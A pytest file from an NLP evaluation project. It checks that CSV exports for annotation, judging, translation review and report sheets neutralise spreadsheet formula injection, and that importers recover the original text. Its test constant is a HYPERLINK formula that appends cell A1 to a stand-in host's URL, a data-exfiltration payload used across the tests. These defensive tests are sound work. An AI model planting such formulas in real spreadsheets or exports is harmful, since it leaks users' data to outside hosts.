"""Issue 29, item 12: text cells of the CSVs we write are guarded against spreadsheet formulas.

A cell that starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is run as a formula
by a spreadsheet program; every CSV nlue writes puts a ``'`` before such a text (numbers stay
numbers), and where our own sheets come back filled in, the reader takes the guard off so the
text is recovered exactly.
"""

from __future__ import annotations

import csv
import json
from pathlib import Path

import pandas as pd

from nlue.gmet.judging import reference_items, write_record_files
from nlue.idioms.annotate import export_sheets as export_idiom_sheets
from nlue.idioms.annotate import read_sheet as read_idiom_sheet

FORMULA = '=HYPERLINK("http://example.invalid/?q="&A1,"click")'
MINUS = "-ऊ आयो"
AT = "@SUM(1+1)"


def _raw_rows(path: Path) -> list[list[str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.reader(handle))


def _column(path: Path, name: str) -> list[str]:
    rows = _raw_rows(path)
    return [row[rows[0].index(name)] for row in rows[1:]]


def test_idiom_annotation_sheet_guards_text_and_reads_it_back(tmp_path: Path) -> None:
    """issue 29, item 12: an annotation sheet (idioms) written and read back, the raw cell starting with "'"."""
    items = [
        {"id": FORMULA, "idiom": AT, "S1": MINUS, "S2": "+ राम्रो", "S3": "\ttab", "position": ""},
        {"id": "plain", "idiom": "हात लाग्यो", "S1": "ऊ", "S2": "-0.25", "S3": "", "position": ""},
    ]
    first, _ = export_idiom_sheets(items, tmp_path, ["a1", "a2"])
    rows = _raw_rows(first)
    header, guarded, plain = rows
    assert guarded[header.index("key")] == "'" + FORMULA
    assert guarded[header.index("idiom")] == "'" + AT
    assert guarded[header.index("S1")] == "'" + MINUS
    assert guarded[header.index("S2")] == "'+ राम्रो"
    assert guarded[header.index("S3")] == "'\ttab"
    assert plain[header.index("S2")] == "-0.25"  # a number stays a number
    # The annotator fills in the label; the sheet comes back with the guarded cells as they were.
    guarded[header.index("label")] = plain[header.index("label")] = "NA"
    with first.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    problems: list = []
    verdicts = read_idiom_sheet(first, {item["id"]: item for item in items}, problems)
    assert problems == [] and set(verdicts) == {FORMULA, "plain"}


def test_gmet_record_file_round_trips_a_formula_prediction(tmp_path: Path) -> None:
    """issue 29, item 12: the GMET predictions.csv (the judges' full copy) guards and reads back exactly."""
    rows = [
        {"id": 1, "category": "Kinship", "theme": "Society", "sentence": MINUS, "filled": "x",
         "prediction": FORMULA, "top_k": ["=a", "b"], "answers": ["@x"], "automatic": 0},
    ]  # fmt: skip
    csv_path, _ = write_record_files(rows, tmp_path)
    assert _column(csv_path, "prediction") == ["'" + FORMULA]
    assert _column(csv_path, "sentence") == ["'" + MINUS]
    assert _column(csv_path, "id") == ["1"] and _column(csv_path, "automatic") == ["0"]
    [item] = reference_items(csv_path, need_automatic=True)
    assert item.prediction == FORMULA and item.sentence == MINUS and item.answers == ("@x",)


def test_gmet_blind_sheet_guards_predictions(tmp_path: Path) -> None:
    """issue 29, item 12: the blind judging sheet guards the proposed word and the sentence."""
    from nlue.gmet.sheet import SheetItem, SheetRun, write_sheet

    items = (SheetItem(7, "-ऊ [MASK] हो", FORMULA, ("दाइ",)),)
    sheet, _ = write_sheet([SheetRun(label="m", folder=str(tmp_path), model="m", items=items)], tmp_path / "judging")
    assert _column(sheet, "word") == ["'" + FORMULA]
    assert _column(sheet, "sentence") == ["'-ऊ [MASK] हो"]
    assert _column(sheet, "filled") == ["'-ऊ " + FORMULA + " हो"]


def test_mcq_annotation_sheet_guards_and_reads_back(tmp_path: Path) -> None:
    from nlue.pipelines.mcq_annotation import COLUMNS, export_sheets, read_sheet

    items = [{"id": "-q1", "question": FORMULA, "options": {"A": "=1+1", "B": "b", "C": "c", "D": "d"},
              "correct_key": "A", "domain": "Science", "subdomain": "maths", "level": "Grade 10"}]  # fmt: skip
    first, _ = export_sheets(items, tmp_path)
    rows = _raw_rows(first)
    assert rows[1][COLUMNS.index("question")] == "'" + FORMULA and "'=1+1" in rows[1]
    rows[1][COLUMNS.index("answer")] = "A"
    rows[1][COLUMNS.index("note")] = "'-check the key"  # a guarded note, as a spreadsheet keeps it
    with first.open("w", encoding="utf-8-sig", newline="") as handle:
        csv.writer(handle).writerows(rows)
    annotation = read_sheet(first, {"-q1"})["-q1"]
    assert annotation.answer == "A" and annotation.note == "-check the key"


def test_translation_review_sheet_guards_and_reads_back(tmp_path: Path) -> None:
    from nlue.registry.tasks import get_task
    from nlue.translate.review import export_review, import_review

    output = tmp_path / "rte.jsonl"
    rows = [
        {"sentence1": f"{FORMULA} {n}", "sentence2": "ऊ आयो", "label": "entailment",
         "provenance": {"source_id": f"=id{n}", "batch": f"+b{n}",
                        "source_text": {"sentence1": f"@en {n}", "sentence2": "he came"}}}
        for n in range(2)
    ]  # fmt: skip
    output.write_text("".join(json.dumps(r, ensure_ascii=False) + "\n" for r in rows), encoding="utf-8")
    work = tmp_path / "work"
    sample = export_review(get_task("rte"), output, work, share=1.0, min_rows=1)
    assert _column(sample, "source_id") == ["'=id0", "'=id1"]
    assert _column(sample, "ne_sentence1")[0] == f"'{FORMULA} 0" and _column(sample, "en_sentence1")[0] == "'@en 0"
    filled = _raw_rows(sample)
    acceptable = filled[0].index("acceptable")
    filled[1][acceptable], filled[2][acceptable] = "no", "yes"
    sheet = tmp_path / "r1.csv"
    with sheet.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(filled)
    summary = import_review(work, [sheet], max_unacceptable=0.5)
    assert summary["rows_reviewed"] == 2 and summary["sent_back"] == ["+b0"]


def test_report_csvs_guard_text_and_keep_numbers(tmp_path: Path) -> None:
    from nlue.evals.mcq.report import write_tables
    from nlue.evals.report.render import table_csv
    from nlue.evals.report.types import OURS, Table

    table = Table("t", "t", pd.DataFrame({"model": [FORMULA], "score": [-0.25]}), [OURS])
    [header, row] = list(csv.reader(table_csv(table).splitlines()))
    assert row[header.index("model")] == "'" + FORMULA and row[header.index("score")] == "-0.25"
    tables = {"domain": [{"group": "@science", "n_items": 3, "parseable_items": 3, "accuracy_all_items": 0.5,
                          "ci_low": -0.1, "ci_high": 1.0, "accuracy_parseable": 0.5, "invalid_rate": 0.0}]}  # fmt: skip
    paths = write_tables(tmp_path, tables, "t")
    assert _column(paths["by_domain"], "group") == ["'@science"]
    assert _column(paths["by_domain"], "ci_low") == ["-0.1"]
